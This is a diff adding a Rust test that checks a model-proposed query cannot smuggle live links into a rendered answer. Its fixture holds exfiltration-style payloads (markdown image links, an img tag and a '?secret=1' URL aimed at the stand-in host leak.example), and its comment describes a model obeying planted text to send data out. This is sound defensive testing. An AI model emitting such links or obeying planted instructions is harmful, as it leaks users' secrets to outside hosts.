@@ -260,6 +260,42 @@ async fn only_what_is_proposed_as_the_answer_is_stated() {
     );
 }
 
+/// A model that obeys planted text may try to send something out in the words of a query.
+#[tokio::test]
+async fn no_link_leaves_in_the_words_of_a_proposal() {
+    let (home, _repository) = home();
+    let query = r#"{"query": {
+        "set": {"where": {"set": {"all": ["component"]}, "test": {"any_of": [
+            {"attribute": {"name": "name", "op": "eq", "value": "scorer"}},
+            {"attribute": {"name": "name", "op": "eq", "value": "` https://leak.example/?secret=1 ` ![x](https://leak.example/2)\n\n[r]: https://leak.example/3 <img src=https://leak.example/4>"}}
+        ]}}},
+        "columns": [{"attribute": "![x](https://leak.example/5)"}, {"attribute": "www.leak.example/6"}]
+    }, "answers": true}"#;
+    let gateway = Gateway::start(move |sent| match results(sent).as_slice() {
+        [] => calls(&[("query", query)]),
+        _ => stream(&[]),
+    })
+    .await;
+    let answer = explained(&gateway, &home, READABLE).await;
+    assert_eq!(answer["facts"]["rows"][0]["name"], "scorer", "{answer}");
+    let text = text(&answer);
+    assert!(
+        text.contains("leak.example/?secret=1"),
+        "the words are there: {text}"
+    );
+    for (at, _) in text.match_indices("leak.example") {
+        let before = text[..at]
+            .trim_end_matches("https://")
+            .trim_end_matches("www.");
+        assert!(before.ends_with('`'), "an address that is no code: {text}");
+        assert_eq!(before.matches('`').count() % 2, 1, "{text}");
+    }
+    assert!(
+        !text.contains("](") && !text.contains("<img") && !text.contains("\n[r"),
+        "{text}"
+    );
+}
+
 #[tokio::test]
 async fn where_passages_are_too_weak_a_model_may_propose_and_nothing_else() {
     let (home, _repository) = home();
